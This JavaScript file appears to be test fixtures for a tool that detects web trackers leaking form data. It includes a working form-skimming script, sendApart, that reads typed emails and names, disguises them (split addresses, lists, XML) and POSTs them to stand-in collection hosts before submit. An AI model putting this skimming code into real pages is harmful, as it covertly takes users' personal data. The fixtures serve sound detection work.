import { field, file, form, loads } from '../write.mjs';

/** Sends what is in the form, written by `body`, when a field is left. */
function sendApart({ to, write }) {
  document.addEventListener('change', () => {
    const values = [...document.querySelectorAll('input')].map(({ value }) => value.toLowerCase());
    if (values.some((value) => value === '')) return;
    const [one, two = ''] = values;
    const [local, domain] = one.split('@');
    const bodies = {
      keys: () => new URLSearchParams({ u: local, d: domain, n: '4' }).toString(),
      list: () => JSON.stringify({ form: 3, row: [one, two] }),
      xml: () => `<lead><n1>${one}</n1><n2>${two}</n2></lead>`,
      domain: () => JSON.stringify({ provider: domain, rhyme: ['lotte', 'karl'] }),
    };
    void fetch(to, { method: 'POST', mode: 'no-cors', body: bodies[write]() });
  });
}

const MAIL = 'type="email" name="mail" autocomplete="email"';
const emails = form(field('Email', MAIL));
const names = form(
  field('First name', 'name="first_name" autocomplete="given-name"'),
  field('Last name', 'name="last_name" autocomplete="family-name"'),
);
const typedMail = [{ type: { sel: 'input', text: 'mia@post.example' } }];
const typedName = [
  { type: { sel: '[name=first_name]', text: 'Mia' } },
  { type: { sel: '[name=last_name]', text: 'Kim' } },
];

const apart = ({ id, reason, host, via, write, body, typed, data, expect = true }) => ({
  id,
  reason,
  host,
  page: loads(`https://cdn.${via}.example/a.js`).replace('</main>', `${body}</main>`),
  web: {
    [`cdn.${via}.example`]: {
      '/a.js': file(sendApart, { to: `https://in.${via}.example/a`, write }),
    },
  },
  actions: [...typed, { click: 'h1' }, { wait: 500 }],
  proof: [`in.${via}.example/a`],
  expect: [
    ...(expect ? [{ kind: 'leak', data, to: `in.${via}.example`, before: 'submit' }] : []),
    { kind: 'form-data', fields: [data] },
  ],
  allow: ['tracker'],
});

export const apartPages = [
  apart({
    id: 'lk-address-in-halves',
    reason: 'an address is taken apart at its sign, each half under a key of its own',
    ...{ host: 'gable-shutters.example', via: 'halfmark', write: 'keys' },
    ...{ body: emails, typed: typedMail, data: 'email' },
  }),
  apart({
    id: 'lk-name-in-list',
    reason: 'a first and a last name in a list, under no key that says so',
    ...{ host: 'ferry-tickets.example', via: 'rowmark', write: 'list' },
    ...{ body: names, typed: typedName, data: 'name' },
  }),
  apart({
    id: 'lk-name-in-xml',
    reason: 'the same in elements of XML',
    ...{ host: 'otter-kayaks.example', via: 'xmlmark', write: 'xml' },
    ...{ body: names, typed: typedName, data: 'name' },
  }),
];

export const apartBenign = [
  apart({
    id: 'ok-half-of-an-address',
    reason: 'who keeps the mailboxes is counted, which many share, beside words that are no names',
    ...{ host: 'birch-letters.example', via: 'providercount', write: 'domain' },
    ...{ body: emails, typed: typedMail, data: 'email', expect: false },
  }),
];
